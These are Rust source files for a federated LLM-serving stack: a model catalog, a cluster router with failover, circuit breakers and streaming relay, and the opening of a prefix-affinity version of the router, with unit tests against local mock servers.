use std::sync::Arc;

use crate::config::{ModelSpec, StackConfig};
use crate::llm::PerfProfile;
use crate::util::json::Json;

use super::registry::ClusterRegistry;

/// Fallback context window when neither the config nor a calibrated
/// backend profile can say (e.g. the artifact-backed "tiny" lane).
const DEFAULT_CONTEXT_WINDOW: usize = 4096;

/// One model in the catalog.
#[derive(Debug, Clone)]
pub struct ModelEntry {
    /// Route / service name — the `id` in `/v1/models`.
    pub name: String,
    /// Backend model or analytic profile name.
    pub model: String,
    pub owned_by: String,
    /// Advertised context window in tokens.
    pub context_window: usize,
    /// Clusters that host this model. Empty only in a single-cluster
    /// stack (where there is nothing to place).
    pub placement: Vec<String>,
}

/// The deployment's model catalog (immutable after launch).
#[derive(Debug, Clone)]
pub struct ModelCatalog {
    entries: Vec<ModelEntry>,
}

impl ModelCatalog {
    /// Build the catalog from a stack config: one entry per service, with
    /// `[model.*]` metadata where present and derived defaults elsewhere.
    /// Placement resolves to the clusters that both list the service and
    /// pass the catalog pin; context window 0 derives from the backend's
    /// calibrated profile.
    pub fn from_config(config: &StackConfig) -> Arc<ModelCatalog> {
        let entries = config
            .services
            .iter()
            .map(|svc| {
                let spec = config.models.iter().find(|m| m.name == svc.name);
                ModelEntry::resolve(config, &svc.name, &svc.model, spec)
            })
            .collect();
        Arc::new(ModelCatalog { entries })
    }

    pub fn entries(&self) -> &[ModelEntry] {
        &self.entries
    }

    pub fn get(&self, name: &str) -> Option<&ModelEntry> {
        self.entries.iter().find(|e| e.name == name)
    }

    /// Does `cluster` host `service`? Unknown services stay routable
    /// everywhere (the legacy flat-namespace behavior) so the catalog
    /// never turns a working route into a 503.
    pub fn hosts(&self, service: &str, cluster: &str) -> bool {
        match self.get(service) {
            Some(entry) if !entry.placement.is_empty() => {
                entry.placement.iter().any(|c| c == cluster)
            }
            _ => true,
        }
    }

    /// OpenAI-compatible model list (`{"object":"list","data":[...]}`),
    /// annotated with placement and — when a registry is supplied — live
    /// per-cluster health from the prober.
    pub fn models_json(&self, registry: Option<&ClusterRegistry>) -> Json {
        let data: Vec<Json> = self
            .entries
            .iter()
            .map(|entry| {
                let mut m = Json::obj()
                    .set("id", entry.name.as_str())
                    .set("object", "model")
                    .set("owned_by", entry.owned_by.as_str())
                    .set("backend", entry.model.as_str())
                    .set("context_window", entry.context_window as u64);
                let mut placement = Vec::new();
                match registry {
                    Some(reg) => {
                        for cluster in reg.snapshot() {
                            if !self.hosts(&entry.name, &cluster.name) {
                                continue;
                            }
                            let st = cluster.status();
                            let health = st.services.get(&entry.name).cloned().unwrap_or_default();
                            placement.push(
                                Json::obj()
                                    .set("cluster", cluster.name.as_str())
                                    .set("healthy", st.healthy)
                                    .set("draining", st.draining)
                                    .set("breaker_open", st.breaker_open)
                                    .set("ready", health.ready)
                                    .set("in_flight", health.in_flight)
                                    .set("expected_hit_rate", health.expected_hit_rate),
                            );
                        }
                    }
                    None => {
                        for cluster in &entry.placement {
                            placement.push(Json::obj().set("cluster", cluster.as_str()));
                        }
                    }
                }
                m = m.set("placement", placement);
                m
            })
            .collect();
        Json::obj().set("object", "list").set("data", data)
    }
}

impl ModelEntry {
    fn resolve(
        config: &StackConfig,
        name: &str,
        backend: &str,
        spec: Option<&ModelSpec>,
    ) -> ModelEntry {
        let derived = ModelSpec::derived(name);
        let spec = spec.unwrap_or(&derived);
        let context_window = if spec.context_window > 0 {
            spec.context_window
        } else {
            PerfProfile::by_name(backend)
                .map(|p| p.max_seq)
                .unwrap_or(DEFAULT_CONTEXT_WINDOW)
        };
        // Placement = clusters that list the service AND pass the pin.
        let placement = config
            .clusters
            .iter()
            .filter(|c| c.hosts(name) && config.model_placed(name, &c.name))
            .map(|c| c.name.clone())
            .collect();
        ModelEntry {
            name: name.to_string(),
            model: backend.to_string(),
            owned_by: spec.owned_by.clone(),
            context_window,
            placement,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{ClusterSpec, ServiceSpec};

    fn two_cluster_config() -> StackConfig {
        StackConfig {
            services: vec![
                ServiceSpec {
                    name: "llama3-70b".into(),
                    model: "llama3-70b".into(),
                    gpus: 2,
                    min_instances: 1,
                    max_instances: 2,
                    target_concurrency: 4.0,
                },
                ServiceSpec {
                    name: "tiny-chat".into(),
                    model: "intel-neural-7b".into(),
                    gpus: 1,
                    min_instances: 1,
                    max_instances: 2,
                    target_concurrency: 4.0,
                },
            ],
            clusters: vec![ClusterSpec::named("emmy", 4), ClusterSpec::named("grete", 4)],
            ..StackConfig::default()
        }
    }

    #[test]
    fn derives_entries_and_placement() {
        let mut config = two_cluster_config();
        config.models = vec![ModelSpec {
            name: "llama3-70b".into(),
            context_window: 0,
            owned_by: "meta".into(),
            clusters: vec!["emmy".into()],
        }];
        let catalog = ModelCatalog::from_config(&config);
        let llama = catalog.get("llama3-70b").unwrap();
        assert_eq!(llama.owned_by, "meta");
        assert_eq!(llama.placement, vec!["emmy".to_string()]);
        assert!(
            llama.context_window > 0,
            "derived from the calibrated profile"
        );
        let tiny = catalog.get("tiny-chat").unwrap();
        assert_eq!(tiny.owned_by, "chat-ai", "derived catalog entry");
        assert_eq!(tiny.placement.len(), 2, "unpinned = every cluster");
        assert!(catalog.hosts("llama3-70b", "emmy"));
        assert!(!catalog.hosts("llama3-70b", "grete"));
        assert!(catalog.hosts("tiny-chat", "grete"));
        assert!(catalog.hosts("unknown-model", "grete"), "unknown routable");
    }

    #[test]
    fn placement_respects_cluster_service_lists() {
        let mut config = two_cluster_config();
        config.clusters[1].services = vec!["tiny-chat".into()];
        let catalog = ModelCatalog::from_config(&config);
        assert_eq!(
            catalog.get("llama3-70b").unwrap().placement,
            vec!["emmy".to_string()],
            "grete's service list excludes llama"
        );
    }

    #[test]
    fn models_json_is_openai_shaped() {
        let catalog = ModelCatalog::from_config(&two_cluster_config());
        let v = catalog.models_json(None);
        assert_eq!(v.str_field("object"), Some("list"));
        let data = v.get("data").unwrap().as_arr().unwrap();
        assert_eq!(data.len(), 2);
        assert_eq!(data[0].str_field("id"), Some("llama3-70b"));
        assert_eq!(data[0].str_field("object"), Some("model"));
        assert!(data[0].u64_field("context_window").unwrap() > 0);
        let placement = data[0].get("placement").unwrap().as_arr().unwrap();
        assert_eq!(placement.len(), 2);
        assert_eq!(placement[0].str_field("cluster"), Some("emmy"));
    }
}
