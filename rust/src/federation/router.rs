//! The federated router: picks a cluster per request (model availability →
//! health → least-loaded), forwards to that cluster's HPC proxy, and spills
//! over to the next cluster when the pick is saturated, draining, dead, or
//! its circuit breaker has tripped.
//!
//! Sits between the gateway's per-model routes and the per-cluster HPC
//! proxies; the URL convention is unchanged
//! (`/<service>/v1/chat/completions`), so single-cluster deployments can
//! adopt federation without touching clients.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use super::registry::{Cluster, ClusterRegistry};
use crate::util::http::{Client, Handler, HttpError, Request, Response, Server};
use crate::util::json::Json;
use crate::util::trace;

pub struct FederatedRouter {
    registry: Arc<ClusterRegistry>,
    max_attempts: usize,
    /// Zero-copy relay fast path for streamed pass-throughs (the
    /// `[streaming] relay` gate; off = the copy-per-chunk baseline).
    relay: bool,
    pub requests: AtomicU64,
    /// Requests that succeeded only after at least one spillover.
    pub failovers: AtomicU64,
    /// Requests that exhausted every candidate cluster.
    pub exhausted: AtomicU64,
}

impl FederatedRouter {
    pub fn new(registry: Arc<ClusterRegistry>) -> Arc<FederatedRouter> {
        Self::with_relay(registry, true)
    }

    /// Construct with an explicit relay-mode flag (`[streaming] relay`).
    pub fn with_relay(registry: Arc<ClusterRegistry>, relay: bool) -> Arc<FederatedRouter> {
        let max_attempts = registry.config().max_attempts.max(1);
        Arc::new(FederatedRouter {
            registry,
            max_attempts,
            relay,
            requests: AtomicU64::new(0),
            failovers: AtomicU64::new(0),
            exhausted: AtomicU64::new(0),
        })
    }

    /// Handle one HTTP request (the router's server handler body).
    pub fn handle(&self, req: &Request) -> Response {
        if req.path == "/healthz" {
            let any = self
                .registry
                .snapshot()
                .iter()
                .any(|c| c.status().healthy && !c.breaker_open());
            return if any {
                Response::text(200, "ok")
            } else {
                Response::error(503, "no healthy cluster")
            };
        }
        if req.path == "/federation/status" {
            return Response::json(200, &self.status_json());
        }

        // Parse /<service>/<rest...> — same convention as the HPC proxy.
        let mut parts = req.path.splitn(3, '/');
        let _ = parts.next();
        let Some(service) = parts.next().filter(|s| !s.is_empty()) else {
            return Response::error(400, "missing service segment");
        };

        self.requests.fetch_add(1, Ordering::Relaxed);
        let candidates = self.registry.candidates(service);
        if candidates.is_empty() {
            self.exhausted.fetch_add(1, Ordering::Relaxed);
            return Response::error(503, "no cluster available");
        }

        // This hop's span clock: receipt → first body byte, spillover
        // attempts included (the client pays for them, so the trace
        // attributes them here).
        let trace_id = req.header("x-chat-ai-trace").and_then(trace::TraceId::parse);
        let t0 = std::time::Instant::now();
        let _trace_scope = trace_id.map(trace::scoped);

        if req.wants_stream() {
            return self.forward_streaming(req, &candidates, trace_id, t0);
        }

        let mut last = Response::error(502, "all clusters failed");
        for (attempt, cluster) in candidates.iter().take(self.max_attempts).enumerate() {
            cluster.requests.fetch_add(1, Ordering::Relaxed);
            match self.forward(req, cluster) {
                Ok(resp) if !retryable_status(resp.status) => {
                    cluster.record_request_success();
                    if attempt > 0 {
                        self.failovers.fetch_add(1, Ordering::Relaxed);
                    }
                    if let Some(id) = trace_id {
                        trace::record(id, trace::Hop::Router, trace::Stage::Ttfb, t0.elapsed());
                    }
                    return resp.with_header("x-cluster", &cluster.name);
                }
                Ok(resp) => {
                    // Saturated / mid-drain / stale routing: try the next
                    // cluster. Every 5xx counts toward the breaker.
                    if resp.status >= 500 {
                        cluster.record_request_failure();
                    }
                    log::debug!(
                        target: "federation",
                        "cluster {} answered {} for {service}; spilling over",
                        cluster.name, resp.status
                    );
                    last = resp;
                }
                Err(e) => {
                    cluster.record_request_failure();
                    log::warn!(
                        target: "federation",
                        "cluster {} unreachable for {service}: {e}; spilling over",
                        cluster.name
                    );
                    last = Response::error(502, &format!("cluster {} unreachable: {e}", cluster.name));
                }
            }
        }
        self.exhausted.fetch_add(1, Ordering::Relaxed);
        last
    }

    fn forward(&self, req: &Request, cluster: &Cluster) -> Result<Response, HttpError> {
        let up_req = rebuild_request(req);
        crate::util::http::with_pooled_client(&cluster.endpoint, |client| client.send(&up_req))
            .map(|up| {
                let mut resp = Response::new(up.status);
                if let Some(ct) = up.headers.get("content-type") {
                    resp = resp.with_header("content-type", ct);
                }
                if let Some(ra) = up.headers.get("retry-after") {
                    // Admission-control sheds keep their backoff hint even
                    // after spillover exhausts every cluster.
                    resp = resp.with_header("retry-after", ra);
                }
                resp.with_body(up.body)
            })
    }

    /// Streaming forward with pre-commit failover: clusters are tried in
    /// order until one answers with a non-retryable head; only then is the
    /// stream committed to the client (a stream cannot be replayed after
    /// its first byte, but before the head arrives spillover is still
    /// safe). If every candidate fails, the client gets a real 502 — not a
    /// silent empty 200.
    fn forward_streaming(
        &self,
        req: &Request,
        candidates: &[Arc<Cluster>],
        trace_id: Option<trace::TraceId>,
        t0: std::time::Instant,
    ) -> Response {
        struct Head {
            status: u16,
            content_type: Option<String>,
            cluster: String,
            attempt: usize,
        }
        let up_req = rebuild_request(req);
        let tries: Vec<Arc<Cluster>> = candidates.iter().take(self.max_attempts).cloned().collect();
        let (head_tx, head_rx) = std::sync::mpsc::sync_channel::<Option<Head>>(1);
        let (chunk_tx, chunk_rx) =
            std::sync::mpsc::sync_channel::<crate::util::http::PooledBuf>(64);
        let relay = self.relay;
        std::thread::spawn(move || {
            let pool = relay.then(crate::util::http::relay_pool);
            let _trace_scope = trace_id.map(trace::scoped);
            // First committed body byte across all attempts (once a stream
            // commits there are no further attempts, so one latch is safe).
            let ttfb_recorded = std::cell::Cell::new(false);
            for (attempt, cluster) in tries.iter().enumerate() {
                cluster.requests.fetch_add(1, Ordering::Relaxed);
                // Committed once a head worth streaming has been forwarded;
                // chunks are only passed through after that point — as
                // opaque pool-recycled buffers, never copied or parsed.
                let committed = std::cell::Cell::new(false);
                let mut client = Client::new(&cluster.endpoint);
                let result = client.relay_until(
                    &up_req,
                    pool.as_ref(),
                    |status, headers| {
                        if !retryable_status(status) {
                            committed.set(true);
                            let _ = head_tx.send(Some(Head {
                                status,
                                content_type: headers.get("content-type").cloned(),
                                cluster: cluster.name.clone(),
                                attempt,
                            }));
                        }
                    },
                    |chunk| {
                        if committed.get() {
                            if !ttfb_recorded.get() {
                                ttfb_recorded.set(true);
                                if let Some(id) = trace_id {
                                    trace::record(
                                        id,
                                        trace::Hop::Router,
                                        trace::Stage::Ttfb,
                                        t0.elapsed(),
                                    );
                                }
                            }
                            // A failed send means the pump thread saw the
                            // client hang up: stop reading so the
                            // disconnect propagates into the cluster.
                            if chunk_tx.send(chunk).is_err() {
                                return false;
                            }
                        }
                        true
                    },
                );
                match result {
                    Ok(_) if committed.get() => {
                        // Complete, or aborted because the client went
                        // away — the cluster served correctly either way.
                        cluster.record_request_success();
                        return;
                    }
                    Ok(_) => {
                        // Retryable head (404/5xx): spill to the next cluster.
                        cluster.record_request_failure();
                    }
                    Err(_) => {
                        cluster.record_request_failure();
                        if committed.get() {
                            // Mid-stream failure: the client already saw
                            // bytes; hang up instead of replaying.
                            return;
                        }
                    }
                }
            }
            let _ = head_tx.send(None);
        });
        match head_rx.recv() {
            Ok(Some(head)) => {
                if head.attempt > 0 {
                    self.failovers.fetch_add(1, Ordering::Relaxed);
                }
                let (resp, tx) = Response::stream(head.status, 64);
                let resp = resp.with_relay(self.relay);
                std::thread::spawn(move || {
                    for chunk in chunk_rx {
                        if tx.send(chunk).is_err() {
                            break; // client went away
                        }
                    }
                });
                resp.with_header(
                    "content-type",
                    head.content_type.as_deref().unwrap_or("text/event-stream"),
                )
                .with_header("x-cluster", &head.cluster)
            }
            Ok(None) | Err(_) => {
                self.exhausted.fetch_add(1, Ordering::Relaxed);
                Response::error(502, "all clusters failed (streaming)")
            }
        }
    }

    /// Federation status document (`/federation/status`).
    pub fn status_json(&self) -> Json {
        let mut clusters = Json::obj();
        for cluster in self.registry.snapshot() {
            let st = cluster.status();
            let mut services = Json::obj();
            let mut names: Vec<&String> = st.services.keys().collect();
            names.sort();
            for name in names {
                let h = &st.services[name];
                services = services.set(
                    name,
                    Json::obj()
                        .set("instances", h.instances)
                        .set("ready", h.ready)
                        .set("in_flight", h.in_flight),
                );
            }
            clusters = clusters.set(
                &cluster.name,
                Json::obj()
                    .set("endpoint", cluster.endpoint.as_str())
                    .set("healthy", st.healthy)
                    .set("draining", st.draining)
                    .set("breaker_open", st.breaker_open)
                    .set("consecutive_failures", st.consecutive_failures as u64)
                    .set("requests", cluster.requests.load(Ordering::Relaxed))
                    .set(
                        "request_failures",
                        cluster.request_failures.load(Ordering::Relaxed),
                    )
                    .set("services", services),
            );
        }
        Json::obj()
            .set("requests", self.requests.load(Ordering::Relaxed))
            .set("failovers", self.failovers.load(Ordering::Relaxed))
            .set("exhausted", self.exhausted.load(Ordering::Relaxed))
            .set("clusters", clusters)
    }

    /// Prometheus text for the monitoring registry.
    pub fn metrics_text(&self) -> String {
        let mut out = format!(
            "federation_requests_total {}\nfederation_failovers_total {}\n\
             federation_exhausted_total {}\n",
            self.requests.load(Ordering::Relaxed),
            self.failovers.load(Ordering::Relaxed),
            self.exhausted.load(Ordering::Relaxed),
        );
        for cluster in self.registry.snapshot() {
            let st = cluster.status();
            let ready: u64 = st.services.values().map(|h| h.ready).sum();
            let in_flight: u64 = st.services.values().map(|h| h.in_flight).sum();
            out.push_str(&format!(
                "federation_cluster_requests_total{{cluster=\"{0}\"}} {1}\n\
                 federation_cluster_failures_total{{cluster=\"{0}\"}} {2}\n\
                 federation_cluster_healthy{{cluster=\"{0}\"}} {3}\n\
                 federation_cluster_breaker_open{{cluster=\"{0}\"}} {4}\n\
                 federation_cluster_ready_instances{{cluster=\"{0}\"}} {5}\n\
                 federation_cluster_in_flight{{cluster=\"{0}\"}} {6}\n",
                cluster.name,
                cluster.requests.load(Ordering::Relaxed),
                cluster.request_failures.load(Ordering::Relaxed),
                st.healthy as u8,
                st.breaker_open as u8,
                ready,
                in_flight,
            ));
        }
        out
    }

    pub fn serve(self: &Arc<FederatedRouter>, addr: &str, workers: usize) -> std::io::Result<Server> {
        let this = self.clone();
        let handler: Handler = Arc::new(move |req| this.handle(req));
        Server::serve(addr, "federated-router", workers, handler)
    }
}

/// Statuses that justify trying another cluster: the service may be known
/// and healthy elsewhere (404 = not in this cluster's routing table, any
/// 5xx = broken/saturated/unreachable here — all of them count toward the
/// cluster's breaker, so a persistently erroring cluster gets benched).
fn retryable_status(status: u16) -> bool {
    status == 404 || status >= 500
}

fn rebuild_request(req: &Request) -> Request {
    let mut up = Request::new(&req.method, &req.path).with_body(req.body.clone());
    up.query = req.query.clone();
    for (k, v) in &req.headers {
        if k != "host" && k != "content-length" && k != "connection" {
            up = up.with_header(k, v);
        }
    }
    up
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::FederationConfig;
    use crate::federation::registry::ServiceHealth;
    use std::collections::HashMap;
    use std::time::Duration;

    fn mock_cluster_proxy(name: &'static str, fail: bool) -> Server {
        Server::serve(
            "127.0.0.1:0",
            "mock-hpc-proxy",
            4,
            Arc::new(move |req: &Request| {
                if fail {
                    Response::error(503, "no ready instance")
                } else {
                    Response::json(
                        200,
                        &Json::obj()
                            .set("cluster", name)
                            .set("path", req.path.as_str()),
                    )
                }
            }),
        )
        .unwrap()
    }

    fn setup(cfg: FederationConfig) -> Arc<ClusterRegistry> {
        ClusterRegistry::new(cfg)
    }

    fn ready_map() -> HashMap<String, ServiceHealth> {
        HashMap::from([(
            "llama".to_string(),
            ServiceHealth {
                instances: 1,
                ready: 1,
                in_flight: 0,
            },
        )])
    }

    #[test]
    fn routes_to_best_cluster_and_tags_response() {
        let reg = setup(FederationConfig::default());
        let up = mock_cluster_proxy("emmy", false);
        let c = reg.register("emmy", None, &up.addr().to_string());
        c.record_probe_ok(ready_map());
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 4).unwrap();
        let mut client = Client::new(&server.url());
        let resp = client.get("/llama/v1/models").unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("emmy"));
        let v = resp.json().unwrap();
        assert_eq!(v.str_field("cluster"), Some("emmy"));
        assert_eq!(v.str_field("path"), Some("/llama/v1/models"));
    }

    #[test]
    fn spills_over_when_first_cluster_is_saturated() {
        let reg = setup(FederationConfig::default());
        let sat = mock_cluster_proxy("sat", true);
        let ok = mock_cluster_proxy("ok", false);
        let a = reg.register("sat", None, &sat.addr().to_string());
        let b = reg.register("ok", None, &ok.addr().to_string());
        // Saturated cluster looks *better* (more ready instances) so the
        // router picks it first and must fail over on its 503.
        a.record_probe_ok(HashMap::from([(
            "llama".to_string(),
            ServiceHealth {
                instances: 4,
                ready: 4,
                in_flight: 0,
            },
        )]));
        b.record_probe_ok(HashMap::from([(
            "llama".to_string(),
            ServiceHealth {
                instances: 1,
                ready: 1,
                in_flight: 1,
            },
        )]));
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 4).unwrap();
        let mut client = Client::new(&server.url());
        let resp = client.get("/llama/v1/models").unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("ok"));
        assert_eq!(router.failovers.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn dead_cluster_fails_over_and_trips_breaker() {
        let reg = setup(FederationConfig {
            breaker_failures: 2,
            breaker_cooldown: Duration::from_secs(60),
            ..Default::default()
        });
        // A dead endpoint: bind and immediately drop.
        let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let dead_addr = dead.local_addr().unwrap().to_string();
        drop(dead);
        let ok = mock_cluster_proxy("ok", false);
        let a = reg.register("dead", None, &dead_addr);
        let b = reg.register("ok", None, &ok.addr().to_string());
        a.record_probe_ok(ready_map());
        b.record_probe_ok(HashMap::from([(
            "llama".to_string(),
            ServiceHealth {
                instances: 1,
                ready: 1,
                in_flight: 3,
            },
        )]));
        let router = FederatedRouter::new(reg.clone());
        let server = router.serve("127.0.0.1:0", 4).unwrap();
        let mut client = Client::new(&server.url());
        for _ in 0..2 {
            let resp = client.get("/llama/v1/models").unwrap();
            assert_eq!(resp.status, 200, "failover succeeded");
            assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("ok"));
        }
        assert!(reg.get("dead").unwrap().breaker_open(), "breaker tripped");
        // With the breaker open the dead cluster isn't even attempted.
        let before = reg.get("dead").unwrap().requests.load(Ordering::Relaxed);
        client.get("/llama/v1/models").unwrap();
        assert_eq!(reg.get("dead").unwrap().requests.load(Ordering::Relaxed), before);
    }

    #[test]
    fn no_cluster_is_503_and_bad_path_is_400() {
        let reg = setup(FederationConfig::default());
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 2).unwrap();
        let mut client = Client::new(&server.url());
        assert_eq!(client.get("/llama/v1/x").unwrap().status, 503);
        assert_eq!(client.get("/").unwrap().status, 400);
        assert_eq!(router.exhausted.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn retryable_statuses() {
        for s in [404, 500, 502, 503, 504, 599] {
            assert!(retryable_status(s), "{s}");
        }
        for s in [200, 201, 400, 401, 403, 429] {
            assert!(!retryable_status(s), "{s}");
        }
    }

    #[test]
    fn streaming_fails_over_before_first_byte() {
        let reg = setup(FederationConfig::default());
        let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let dead_addr = dead.local_addr().unwrap().to_string();
        drop(dead);
        let ok = Server::serve(
            "127.0.0.1:0",
            "mock-stream",
            4,
            Arc::new(|_req: &Request| {
                let (resp, tx) = Response::stream(200, 8);
                std::thread::spawn(move || {
                    for part in ["tok1;", "tok2;"] {
                        let _ = tx.send(part.as_bytes().to_vec().into());
                    }
                });
                resp.with_header("content-type", "text/event-stream")
            }),
        )
        .unwrap();
        let a = reg.register("dead", None, &dead_addr);
        let b = reg.register("ok", None, &ok.addr().to_string());
        // Dead cluster looks best so streaming must spill over pre-commit.
        a.record_probe_ok(HashMap::from([(
            "llama".to_string(),
            ServiceHealth {
                instances: 4,
                ready: 4,
                in_flight: 0,
            },
        )]));
        b.record_probe_ok(ready_map());
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 4).unwrap();
        let mut client = Client::new(&server.url());
        let req = Request::new("POST", "/llama/v1/chat/completions")
            .with_body(br#"{"stream":true}"#.to_vec());
        let mut body = Vec::new();
        let resp = client
            .send_streaming(&req, |chunk| body.extend_from_slice(chunk))
            .unwrap();
        assert_eq!(resp.status, 200);
        assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("ok"));
        assert_eq!(String::from_utf8_lossy(&body), "tok1;tok2;");
        assert_eq!(router.failovers.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn streaming_with_no_survivor_is_a_real_502() {
        let reg = setup(FederationConfig::default());
        let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let dead_addr = dead.local_addr().unwrap().to_string();
        drop(dead);
        let a = reg.register("dead", None, &dead_addr);
        a.record_probe_ok(ready_map());
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 2).unwrap();
        let mut client = Client::new(&server.url());
        let req = Request::new("POST", "/llama/v1/chat/completions")
            .with_body(br#"{"stream":true}"#.to_vec());
        let resp = client.send(&req).unwrap();
        assert_eq!(resp.status, 502, "no silent empty 200");
    }

    #[test]
    fn status_and_metrics_render() {
        let reg = setup(FederationConfig::default());
        let up = mock_cluster_proxy("emmy", false);
        let c = reg.register("emmy", None, &up.addr().to_string());
        c.record_probe_ok(ready_map());
        let router = FederatedRouter::new(reg);
        let server = router.serve("127.0.0.1:0", 2).unwrap();
        let mut client = Client::new(&server.url());
        client.get("/llama/v1/models").unwrap();
        let status = client.get("/federation/status").unwrap().json().unwrap();
        let emmy = status.get("clusters").unwrap().get("emmy").unwrap();
        assert_eq!(emmy.bool_field("healthy"), Some(true));
        assert_eq!(emmy.u64_field("requests"), Some(1));
        let text = router.metrics_text();
        assert!(text.contains("federation_requests_total 1"), "{text}");
        assert!(
            text.contains("federation_cluster_healthy{cluster=\"emmy\"} 1"),
            "{text}"
        );
        assert_eq!(client.get("/healthz").unwrap().status, 200);
    }
}
