//! The federated router: plans an ordered list of candidate clusters per
//! request (catalog placement → availability → health → cache-affinity-
//! weighted load), forwards to the best, and spills over to the next when
//! the pick is saturated, draining, dead, or its circuit breaker tripped.
//!
//! Routing is session/prefix-aware: the request's opening prompt block is
//! hashed with the BlockManager's chained-FNV scheme
//! ([`crate::llm::prefix_route_hash`]), so every turn of a multi-turn chat
//! carries the same route hash. An [`AffinityMap`] remembers which cluster
//! served a hash; within an availability tier clusters then sort by
//! `load − cache_affinity_weight × affinity`, where affinity is 1.0 for
//! the remembered (KV-warm) cluster and `0.25 × expected_hit_rate` — the
//! prober's measured prefix-cache hit rate — for the rest. Weight 0
//! restores PR 1's pure availability → health → least-loaded order.
//!
//! Sits between the gateway's per-model routes and the per-cluster HPC
//! proxies; the URL convention is unchanged
//! (`/<service>/v1/chat/completions`), so single-cluster deployments can
//! adopt federation without touching clients.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, RwLock};

use super::affinity::AffinityMap;
use super::catalog::ModelCatalog;
use super::registry::{Cluster, ClusterRegistry};
use crate::llm::prefix_route_hash;
use crate::util::http::{Handler, HttpError, Request, Response, Server};
use crate::util::json::Json;
use crate::util::trace;

/// Tokens of the rendered prompt hashed into the route key: one KV block
/// (the engine's default `kv_block_size`). One block is enough to identify
/// a conversation — turn N+1's prompt extends turn N's, so the opening
/// block never changes — while staying insensitive to the tail.
const ROUTE_BLOCK_TOKENS: usize = 16;

/// Sessions the affinity map remembers before coarse-LRU eviction.
const AFFINITY_CAPACITY: usize = 4096;

/// Why a cluster sits where it does in a [`RoutePlan`] — surfaced in
/// spillover logs and available to tests.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ReasonCode {
    /// This cluster holds the session's warm KV prefix (sticky pick).
    CacheAffinity,
    /// Chosen/ordered by per-instance load within its tier.
    LeastLoaded,
    /// Operator drain: last resort within the healthy tiers.
    Draining,
    /// No ready instance for the service (may still be loading).
    NoCapacity,
    /// Never successfully probed, or the last probe failed.
    Unprobed,
    /// The model catalog places the model elsewhere — never attempted.
    NotInCatalog,
    /// Circuit breaker open — never attempted.
    BreakerOpen,
}

impl ReasonCode {
    pub fn as_str(self) -> &'static str {
        match self {
            ReasonCode::CacheAffinity => "cache-affinity",
            ReasonCode::LeastLoaded => "least-loaded",
            ReasonCode::Draining => "draining",
            ReasonCode::NoCapacity => "no-capacity",
            ReasonCode::Unprobed => "unprobed",
            ReasonCode::NotInCatalog => "not-in-catalog",
            ReasonCode::BreakerOpen => "breaker-open",
        }
    }
}

/// One attemptable cluster in a [`RoutePlan`], with its scoring inputs.
pub struct RouteCandidate {
    pub cluster: Arc<Cluster>,
    /// Availability tier (0 best; see [`ClusterRegistry::candidates`]).
    pub tier: u8,
    /// Per-instance load (`in_flight / ready`).
    pub load: f64,
    /// Cache-affinity bonus in [0, 1].
    pub affinity: f64,
    /// Within-tier sort key: `load − cache_affinity_weight × affinity`.
    pub score: f64,
    pub reasons: Vec<ReasonCode>,
}

impl RouteCandidate {
    /// `"emmy[cache-affinity,least-loaded]"` — for spillover logs.
    fn describe(&self) -> String {
        let reasons: Vec<&str> = self.reasons.iter().map(|r| r.as_str()).collect();
        format!("{}[{}]", self.cluster.name, reasons.join(","))
    }
}

/// A cluster the plan refuses to attempt, and why.
pub struct ExcludedCluster {
    pub cluster: Arc<Cluster>,
    pub reason: ReasonCode,
}

/// The routing decision for one request: ordered candidates plus the
/// clusters that were ruled out. Built by [`FederatedRouter::route_plan`];
/// consumed by the forwarding paths and by tests that want to assert on
/// routing without standing up HTTP.
pub struct RoutePlan {
    pub service: String,
    /// Chained-FNV hash of the prompt's opening block (POST bodies with a
    /// parseable prompt only).
    pub prefix_hash: Option<u64>,
    /// Cluster the affinity map pins this session to, if any.
    pub sticky_cluster: Option<String>,
    pub candidates: Vec<RouteCandidate>,
    pub excluded: Vec<ExcludedCluster>,
}

pub struct FederatedRouter {
    registry: Arc<ClusterRegistry>,
    max_attempts: usize,
    /// Zero-copy relay fast path for streamed pass-throughs (the
    /// `[streaming] relay` gate; off = the copy-per-chunk baseline).
    relay: bool,
    /// Session → cluster stickiness (prefix hash keyed).
    affinity: AffinityMap,
    /// Model placement; None until the coordinator installs it (routing
    /// then behaves as the legacy flat namespace).
    catalog: RwLock<Option<Arc<ModelCatalog>>>,
    pub requests: AtomicU64,
    /// Requests that succeeded only after at least one spillover.
    pub failovers: AtomicU64,
    /// Requests served by their session's sticky (KV-warm) cluster.
    pub affinity_hits: AtomicU64,
    /// Hash-carrying requests served away from their sticky cluster (or
    /// with no pin yet).
    pub affinity_misses: AtomicU64,
    /// Requests that exhausted every candidate cluster.
    pub exhausted: AtomicU64,
}

impl FederatedRouter {
    pub fn new(registry: Arc<ClusterRegistry>) -> Arc<FederatedRouter> {
        Self::with_relay(registry, true)
    }

    /// Construct with an explicit relay-mode flag (`[streaming] relay`).
    pub fn with_relay(registry: Arc<ClusterRegistry>, relay: bool) -> Arc<FederatedRouter> {
        let max_attempts = registry.config().max_attempts.max(1);
        Arc::new(FederatedRouter {
            registry,
            max_attempts,
            relay,
            affinity: AffinityMap::new(AFFINITY_CAPACITY),
            catalog: RwLock::new(None),
            requests: AtomicU64::new(0),
            failovers: AtomicU64::new(0),
            affinity_hits: AtomicU64::new(0),
